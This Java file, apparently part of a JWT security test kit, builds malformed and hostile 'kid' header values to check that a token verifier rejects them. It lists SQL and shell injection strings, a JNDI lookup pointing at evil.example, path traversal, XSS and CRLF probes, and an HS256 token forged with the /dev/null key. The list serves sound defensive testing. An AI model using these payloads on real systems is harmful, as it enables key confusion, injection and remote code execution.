package io.github.ownproof.testkit;

import java.util.List;
import java.util.Locale;

/** Key ids that are none, or not of a key of this issuer's. */
final class HostileKeyIds {

  private static final String KID = "RFC 7515 section 4.1.4";
  private static final String INJECTION = "RFC 8725 section 3.10";

  private HostileKeyIds() {}

  static void addTo(HostileFamily family) {
    List<String> none = List.of("", "null", "0", "1.5", "true", "false", "[]", "{}", "\"\"");
    for (String json : none) {
      family.header(KID, "KEY_ID", "kid", json);
    }
    String kid = family.forge().key().kid();
    family.header(KID, "KEY_ID", "kid", JsonText.of(List.of(kid)));
    for (String length : List.of("k".repeat(257), "k".repeat(10_000))) {
      family.header(INJECTION, "KEY_ID", "kid", JsonText.of(length));
    }
    for (String control : List.of("\n", "\r\nkid: x", "\0", "\t", "\u007f", "\u0085")) {
      family.header(INJECTION, "KEY_ID", "kid", JsonText.of(kid + control));
    }
    List<String> unknown =
        List.of(
            kid + "2",
            kid + " ",
            " " + kid,
            " ",
            kid.substring(1),
            kid.toLowerCase(Locale.ROOT),
            "../../../../dev/null",
            "/dev/null",
            "file:///dev/null",
            "https://evil.example/key.pem",
            "x' UNION SELECT 'secret' --",
            "' OR '1'='1",
            "1; DROP TABLE keys",
            "|sleep 5",
            "$(id)",
            "`id`",
            "${jndi:ldap://evil.example/a}",
            "%s%s%n",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "*",
            "null",
            "undefined",
            "__proto__",
            kid + "%00");
    for (String other : unknown) {
      if (other.equals(kid) || other.isEmpty()) {
        continue; // A kid of one character, or in lower case as it is.
      }
      family.header(INJECTION, "UNKNOWN_KEY", "kid", JsonText.of(other));
    }
    ForgedKey nullFile = ForgedKey.hmac("HS256", "/dev/null", new byte[0]);
    family.add(
        "/dev/null, with HS256 by its content",
        INJECTION,
        "ALGORITHM",
        family.valid().header("kid", "/dev/null").algorithm("HS256").signedBy(nullFile));
  }
}
